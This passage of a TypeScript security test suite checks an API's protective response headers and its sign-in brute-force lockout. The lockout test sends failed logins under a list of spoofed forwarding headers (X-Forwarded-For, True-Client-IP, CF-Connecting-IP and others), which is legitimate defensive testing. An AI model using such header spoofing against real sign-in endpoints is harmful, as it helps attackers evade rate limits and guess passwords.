      if (media['content-type'] !== 'image/png' || !media['content-security-policy']?.includes('sandbox'))
        missing.push('media: type/sandbox');
      // Tokens and the caller's own record must not be kept by any cache.
      const signin = await call('post', SIGNIN, {
        email: bob.email,
        password: bob.password,
      })().expect(200);
      const refreshed = await call('post', REFRESH, {
        refresh: signin.body.refresh,
      })().expect(200);
      for (const [what, res] of [
        ['signin', signin],
        ['token refresh', refreshed],
        ['me', seen.get('JSON (me)')!],
      ] as const) {
        if (res.headers['cache-control'] !== 'no-store') missing.push(`${what}: Cache-Control: no-store`);
      }
      console.log(
        `headers: ${answers.length + 2} responses checked for nosniff, framing, referrer, CSP, no-store, stack disclosure: ${missing.length} missing`,
      );
      expect(missing).toEqual([]);
    });
  });

  // Last: it locks this address out of sign-in, and gives it back at the end.
  describe('sign-in brute force', () => {
    it('counts failures per connecting address: spoofed forwarding headers neither reset nor split the count (TRUST_PROXY unset)', async () => {
      const eve = await signupAndSignin(api, 'eve');
      const spoofs: Headers[] = [
        { 'X-Forwarded-For': '203.0.113.1' },
        { 'X-Forwarded-For': '203.0.113.2, 198.51.100.7' },
        { 'X-Real-IP': '203.0.113.3' },
        { Forwarded: 'for=203.0.113.4' },
        { 'X-Client-IP': '203.0.113.5' },
        { 'True-Client-IP': '203.0.113.6' },
        { 'CF-Connecting-IP': '203.0.113.7' },
        { 'X-Forwarded-For': '127.0.0.2' },
      ];
      const redis = api.app.get<RedisClient>(REDIS_CLIENT);
      const keys = api.app.get(CacheKeys);
      const counters = LOCAL_IPS.flatMap((ip) => ['signin-fail-ip', 'signin-ip'].map((name) => `${keys.rateLimit(name)}:${ip}`));
      // Counted from zero, whatever failures an earlier file of this run left on this address.
      await redis.del(counters);
      try {
        for (let i = 0; i < MAX_IP_FAILURES; i++) {
          const wrong = {
            email: uniqueEmail('nobody'),
            password: 'wrong-password',
          };
          expect((await call('post', SIGNIN, wrong)(spoofs[i % spoofs.length])).status, `failure ${i + 1}`).toBe(401);
        }
        // Eve has no failure of her own and claims yet another address: the connection's count decides.
        const locked = await call('post', SIGNIN, {
          email: eve.email,
          password: eve.password,
        })({ 'X-Forwarded-For': '192.0.2.99' });
        expect(locked.status).toBe(429);
        const retryAfter = Number(locked.headers['retry-after']);
        expect(retryAfter).toBeGreaterThan(0);
        expect(retryAfter).toBeLessThanOrEqual(60);
        expect(locked.body.detail).toMatch(/Too many failed sign-in attempts/);
        console.log(
          `brute force: ${MAX_IP_FAILURES} failed sign-ins under ${spoofs.length} spoofed client-address headers, ` +
            `then the right password → ${locked.status}, Retry-After ${retryAfter}s`,
        );
      } finally {
        // Later files of this run sign in from this address too.
        await redis.del(counters);
      }
      await call('post', SIGNIN, {
        email: eve.email,
        password: eve.password,
      })().expect(200);
    });
  });
});
